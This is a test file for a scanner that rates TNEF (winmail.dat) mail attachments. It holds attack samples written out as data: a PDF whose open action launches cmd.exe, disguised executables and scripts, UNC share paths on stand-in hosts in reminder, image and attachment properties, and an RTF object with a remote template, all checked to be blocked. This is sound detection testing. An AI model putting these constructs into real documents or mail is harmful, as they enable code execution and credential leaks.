import { describe, expect, it } from "vitest"
import { Budget } from "../../../../adapters/documents/reading/Budget.ts"
import { readTnef } from "../../../../adapters/documents/tnef/ReadTnef.ts"
import { tnefAttributesMax } from "../../../../adapters/documents/tnef/TnefAttributes.ts"
import { documentTypeOf } from "../../../../core/documents/facts/DocumentType.ts"
import { carriers } from "../evasions/Carriers.ts"
import { rate } from "../evasions/Rate.ts"
import { makeMessage, messageStreams, uncompressedRtf } from "../mail/MakeMessage.ts"
import { makePdf } from "../pdf/MakePdf.ts"
import {
  attachedObject,
  attribute,
  makeTnef,
  messageProperties,
  namedProperty,
  numberProperty,
  property,
  propertyList,
  stringNamedProperty,
  tnefAttachment
} from "./MakeTnef.ts"

const read = (bytes: Uint8Array) => readTnef(bytes, new Budget())
const program = `MZ${"x".repeat(300)}`
const launching = makePdf({ 1: "<</Type/Catalog/OpenAction<</S/Launch/F(cmd.exe)>>>>" }, "none")
const harmlessPdf = makePdf({ 1: "<</Type/Catalog>>" }, "none")
const share = "\\\\198.51.100.7\\s\\a.wav"
const rtfLink = (url: string): Uint8Array =>
  uncompressedRtf(`{\\rtf1\\ansi{\\field{\\*\\fldinst HYPERLINK "${url}"}{\\fldrslt here}}}`)
const subject = messageProperties(property(0x37, "Hello"), property(0x1000, "See you on Monday."))
const nested = (...attributes: ReadonlyArray<Uint8Array>): Uint8Array =>
  makeTnef(tnefAttachment("Fwd", "", attachedObject(makeTnef(...attributes))))

const embeddedText = "This attachment is a MAPI 1.0 embedded message and is not supported by this mail system.\0"

const attacks: ReadonlyArray<readonly [string, Uint8Array]> = [
  ["a program", makeTnef(subject, tnefAttachment("a.exe", program))],
  ["a program without a name", makeTnef(attribute(2, 0x0006800f, program))],
  ["a program in an attribute of another type", makeTnef(attribute(2, 0x9002, ""), attribute(2, 0x800f, program))],
  ["a program in place of a message", makeTnef(tnefAttachment("Fwd", `${program}${embeddedText}`))],
  ["a document that starts a program", makeTnef(subject, tnefAttachment("a.pdf", launching))],
  ["a script by its long name", makeTnef(subject, tnefAttachment("invoice.pdf.js", "WScript.Echo(1)"))],
  ["a script by its title", makeTnef(attribute(2, 0x00018010, "a.js\0"), attribute(2, 0x0006800f, "WScript.Echo(1)"))],
  [
    "a script by its type",
    makeTnef(
      attribute(2, 0x00069002, "x"),
      attribute(2, 0x00069005, propertyList(property(0x370e, "text/vbscript"), property(0x3701, Buffer.from("Run"))))
    )
  ],
  ["a reminder from a share", makeTnef(messageProperties(namedProperty(0x8002, share)))],
  ["a reminder from a share, not in Unicode", makeTnef(messageProperties(namedProperty(0x8002, `${share}\0`, 0x1e)))],
  ["a share in a property named by a string", makeTnef(messageProperties(stringNamedProperty(0x8003, "abc", share)))],
  ["a share in the second list of properties", makeTnef(subject, messageProperties(namedProperty(0x8002, share)))],
  [
    "an attachment on a share",
    makeTnef(
      subject,
      attribute(2, 0x00069002, "x"),
      attribute(2, 0x00069005, propertyList(property(0x370d, "\\\\evil.example\\s\\a.exe")))
    )
  ],
  ["a program in a message within", nested(tnefAttachment("a.exe", program))],
  ["a reminder in a message within", nested(messageProperties(namedProperty(0x8002, share)))],
  [
    "an Outlook message within",
    makeTnef(tnefAttachment(
      "a.msg",
      makeMessage({
        ...messageStreams({ "0037": "Meeting", "851F": share })
      })
    ))
  ],
  ["a program as an object", makeTnef(tnefAttachment("a.bin", "", attachedObject(Buffer.from(program))))],
  [
    "a picture on a share in HTML",
    makeTnef(messageProperties(property(0x1013, Buffer.from("<img src=\"\\\\evil.example\\s\\a.png\">"))))
  ],
  [
    "an object of an exploit in RTF",
    makeTnef(messageProperties(property(
      0x1009,
      uncompressedRtf(
        "{\\rtf1{\\object\\objautlink\\objupdate{\\*\\template \\\\\\\\evil.example\\\\a.dot}}{\\*\\template \\\\\\\\evil.example\\\\s\\\\a.dot}}"
      )
    )))
  ]
]

const ordinary: ReadonlyArray<readonly [string, Uint8Array]> = [
  ["text", makeTnef(subject)],
  [
    "text as attributes",
    makeTnef(attribute(1, 0x00018004, "Hello\0"), attribute(1, 0x0002800c, "See you on Monday.\0"))
  ],
  ["a harmless document", makeTnef(subject, tnefAttachment("a.pdf", harmlessPdf))],
  ["a picture", makeTnef(subject, tnefAttachment("a.png", "\x89PNG\r\n\x1a\n"))],
  ["two attachments", makeTnef(tnefAttachment("a.txt", "Hello"), tnefAttachment("b.txt", "Bye"))],
  [
    "a link in HTML",
    makeTnef(messageProperties(property(
      0x1013,
      Buffer.from(
        "<a href=\"https://www.wikipedia.org/\">Read this</a>"
      )
    )))
  ],
  ["a link in RTF", makeTnef(messageProperties(property(0x1009, rtfLink("https://www.wikipedia.org/"))))],
  [
    "a named property",
    makeTnef(messageProperties(namedProperty(0x8002, "C:\\Windows\\Media\\reminder.wav")))
  ],
  ["a property named by a string", makeTnef(messageProperties(stringNamedProperty(0x8003, "Keywords", "Meeting")))],
  ["a message within", nested(messageProperties(property(0x37, "Inner"), property(0x1000, "Hello")))],
  [
    "a message within, as Outlook writes it",
    makeTnef(tnefAttachment("Fwd", embeddedText, attachedObject(makeTnef(subject))))
  ],
  ["line ends after its end", Buffer.concat([makeTnef(subject), Buffer.from("\r\n")])],
  ["unknown attributes", makeTnef(attribute(1, 0x00069004, "any"), attribute(1, 0x00078008, "IPM.Note\0"), subject)],
  [
    "several values of a property",
    makeTnef(messageProperties(
      Buffer.concat([
        Buffer.from([0x1f, 0x10, 0x02, 0x60]),
        Buffer.from([2, 0, 0, 0]),
        Buffer.from([4, 0, 0, 0, 65, 0, 0, 0]),
        Buffer.from([2, 0, 0, 0, 66, 0, 0, 0])
      ]),
      Buffer.from([0x03, 0x10, 0x03, 0x60, 2, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0])
    ))
  ]
]

const attachedToMail = (bytes: Uint8Array): Uint8Array =>
  Buffer.from(
    "Received: a\r\nFrom: Ann <ann@example.com>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n" +
      "--b\r\nContent-Type: text/plain\r\n\r\nHello\r\n--b\r\nContent-Type: application/ms-tnef; name=\"winmail.dat\"\r\n" +
      "Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename=\"winmail.dat\"\r\n\r\n" +
      `${Buffer.from(bytes).toString("base64").replace(/.{76}/g, "$&\r\n")}\r\n--b--\r\n`
  )

describe("a TNEF stream", () => {
  it("has its text, its links and its attachments", () => {
    const { facts, files } = read(makeTnef(
      messageProperties(
        numberProperty(0x1a, 1),
        property(0x37, "Invoice 12"),
        namedProperty(0x8001, "any"),
        property(0x1013, Buffer.from("<a href=\"https://a.example/\">Open</a>")),
        property(0x1009, rtfLink("https://b.example/"))
      ),
      tnefAttachment("a long name.pdf", "%PDF-1.7"),
      tnefAttachment("b.txt", "Hello")
    ))
    expect(facts).toEqual([
      { kind: "link", url: "https://a.example/", text: "Open", from: "text", where: "html" },
      { kind: "text", text: "Invoice 12\nOpen", pages: null, where: "document" },
      expect.objectContaining({ kind: "link", url: "https://b.example/", text: "here" })
    ])
    expect(files.map(({ as, bytes, name, otherNames }) => [name, otherNames, as, Buffer.from(bytes).toString()]))
      .toEqual([
        ["a long name.pdf", ["a long n"], "attachment", "%PDF-1.7"],
        ["b.txt", [], "attachment", "Hello"]
      ])
  })

  it("has the text of an RTF body without another body", () => {
    const { facts } = read(makeTnef(messageProperties(property(0x1009, uncompressedRtf("{\\rtf1\\ansi Hello}")))))
    expect(facts).toEqual([expect.objectContaining({ kind: "text", text: expect.stringContaining("Hello") as string })])
  })

  it("has its text in its code page", () => {
    const codePage = attribute(1, 0x00069007, Buffer.from([0xe3, 4, 0, 0, 0, 0, 0, 0]))
    const bytes = makeTnef().subarray(0, 6)
    const { facts } = read(Buffer.concat([bytes, codePage, attribute(1, 0x00018004, "\xcf\xf0\xe8\xe2\xe5\xf2\0")]))
    expect(facts).toEqual([expect.objectContaining({ kind: "text", text: "Привет" })])
  })

  it.each(attacks)("is blocked with %s", (_, bytes) => expect(rate(bytes)[0]).toBe("block"))
  it.each(attacks)("is not ok within another document with %s", (_, bytes) => {
    for (const [where, carry] of carriers) expect(rate(carry(bytes, "winmail.dat"))[0], where).not.toBe("ok")
    expect(rate(attachedToMail(bytes))[0]).toBe("block")
  })
  it.each(ordinary)("is ok with %s", (_, bytes) => expect(rate(bytes)[0]).toBe("ok"))
  it.each(ordinary)("is ok within a mail with %s", (_, bytes) => expect(rate(attachedToMail(bytes))[0]).toBe("ok"))
})

const whole = makeTnef(subject, tnefAttachment("a.txt", "Hello"))

describe("a damaged TNEF stream", () => {
  it("is never ok if it is truncated", () => {
    expect(rate(whole)[0]).toBe("ok")
    const starts = new Set<string>()
    for (let bytes = 7; bytes < whole.length; bytes++) starts.add(`${bytes} ${rate(whole.subarray(0, bytes))[0]}`)
    const atEnds = [...starts].filter((one) => one.endsWith(" ok"))
    // After whole attributes, a shorter stream is a valid one.
    expect(atEnds.length).toBeLessThanOrEqual(7)
    expect([...starts].filter((one) => !/ (?:ok|warn)$/.test(one))).toEqual([])
  })

  it.each<readonly [string, Uint8Array]>([
    ["a wrong checksum", makeTnef(subject, attribute(2, 0x0006800f, "Hello", 1))],
    ["a wrong level", makeTnef(subject, attribute(3, 0x0006800f, "Hello"))],
    ["a length beyond its end", Buffer.concat([makeTnef(), Buffer.from([1, 3, 0x90, 6, 0, 255, 255, 255, 255, 1])])],
    ["too many properties", makeTnef(attribute(1, 0x00069003, Buffer.from([255, 255, 255, 255])))],
    ["a property beyond its end", makeTnef(messageProperties(property(0x37, "Hello").subarray(0, 10)))],
    ["too many values", makeTnef(messageProperties(Buffer.from([3, 16, 1, 96, 255, 255, 255, 255])))],
    ["an unknown type of a property", makeTnef(messageProperties(Buffer.from([0x99, 0, 1, 96, 1, 0, 0, 0])))],
    ["a name beyond its end", makeTnef(messageProperties(namedProperty(0x8001, "a").subarray(0, 12)))],
    ["data after its end", Buffer.concat([makeTnef(subject), Buffer.from("MZ")])],
    ["too many attributes", makeTnef(...Array.from({ length: tnefAttributesMax }, () => attribute(1, 1, "")))]
  ])("is rated warn with %s", (_, bytes) => {
    expect(rate(bytes)).toEqual(["warn", "PARTIAL_SCAN"])
    expect(rate(attachedToMail(bytes))[0]).toBe("warn")
  })

  it("is rated warn if messages within it are nested too deep", () => {
    let bytes = makeTnef()
    for (let depth = 0; depth < 9; depth++) bytes = nested(tnefAttachment("", "", attachedObject(bytes)))
    expect(rate(bytes)[0]).toBe("warn")
  })

  it("is also read as the PDF that viewers find in it", () => {
    const hidden = attribute(1, 0x00078008, launching)
    expect(rate(makeTnef(hidden, tnefAttachment("a.pdf", harmlessPdf)))[0]).toBe("block")
  })

  it("has what was read before the damage", () => {
    const bytes = makeTnef(tnefAttachment("a.exe", program))
    expect(rate(bytes.subarray(0, bytes.length - 10))[0]).toBe("block")
    expect(rate(makeTnef(attribute(2, 0x0006800f, program, 1)))[0]).toBe("block")
  })

  it("is refused if nothing in it can be read, and not ok as an attachment", () => {
    const bytes = makeTnef().subarray(0, 6)
    expect(documentTypeOf(bytes)).toBe("tnef")
    expect(rate(Buffer.concat([bytes, Buffer.from("x")]))[0]).toBe("unreadable")
    expect(rate(attachedToMail(Buffer.concat([bytes, Buffer.from("x")])))[0]).toBe("warn")
  })
})
